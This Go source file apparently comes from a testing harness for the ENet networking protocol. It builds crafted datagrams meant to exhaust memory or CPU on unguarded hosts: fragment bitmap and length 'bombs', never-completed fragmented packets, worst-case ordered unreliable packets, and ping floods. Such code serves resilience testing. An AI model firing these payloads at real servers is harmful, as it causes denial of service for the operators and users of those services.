package rawenet

// full is as large as ENet's own datagrams get.
const full = 1400

// BitmapBomb returns n datagrams of empty fragments, each of another packet that
// claims a million fragments: 24 bytes that make an unguarded host allot 128 KiB.
func (c *Conn) BitmapBomb(n int) [][]byte {
	sequence := uint16(1)
	return fill(n, c.Header, func(b []byte) []byte {
		sequence++
		return Fragment{
			Command: SendFragment, Sequence: sequence, Start: sequence,
			Count: 1 << 20, Number: 5, Total: 1,
		}.Append(b)
	})
}

// LengthBomb returns n datagrams of one-byte fragments, each of another packet
// that claims total bytes: an unguarded host allots that for each.
func (c *Conn) LengthBomb(n int, total uint32) [][]byte {
	sequence := uint16(1)
	return fill(n, c.Header, func(b []byte) []byte {
		sequence++
		return Fragment{
			Command: SendFragment, Sequence: sequence, Start: sequence,
			Count: total/512 + 2, Number: 1, Total: total, Offset: total / 2, Data: []byte{1},
		}.Append(b)
	})
}

// HalfPackets returns n datagrams, each a well-formed first fragment of another
// packet of total bytes, whose rest never comes.
func (c *Conn) HalfPackets(n int, total uint32) [][]byte {
	const piece = 1000
	data := make([]byte, piece)
	count := (total + piece - 1) / piece
	datagrams := make([][]byte, n)
	for i := range datagrams {
		start := uint16(2 + i)
		datagrams[i] = Fragment{
			Command: SendFragment | WantsAcknowledgement, Sequence: start, Start: start,
			Count: count, Total: total, Data: data,
		}.Append(c.Header())
	}
	return datagrams
}

// Descending returns n datagrams of empty unreliable packets that wait for a
// reliable one which never comes, the newest first: a host that keeps them sorted
// and searches from the end goes through all of them for each.
func (c *Conn) Descending(n int) [][]byte {
	reliable, sequence := uint16(1), uint16(0xFFFF)
	return fillCommands(n, maxCommands, c.Header, func(b []byte) []byte {
		b = AppendUnreliable(b, 0, reliable, sequence, nil)
		if sequence--; sequence == 0 {
			reliable, sequence = reliable+1, 0xFFFF
		}
		return b
	})
}

// Pings returns n datagrams with as many pings as ENet would put into one, each with
// its number.
func (c *Conn) Pings(n int) [][]byte {
	return fillCommands(n, maxCommands, c.Header, func(b []byte) []byte {
		c.control++
		return AppendPing(b, c.control)
	})
}

// maxCommands is the most that ENet puts into a datagram.
const maxCommands = 32

// fill makes datagrams of as many commands as go in.
func fill(n int, header func() []byte, command func([]byte) []byte) [][]byte {
	size := len(command(nil))
	return fillCommands(n, (full-4)/size, header, command)
}

func fillCommands(n, commands int, header func() []byte, command func([]byte) []byte) [][]byte {
	datagrams := make([][]byte, n)
	for i := range datagrams {
		b := header()
		for range commands {
			b = command(b)
		}
		datagrams[i] = b
	}
	return datagrams
}
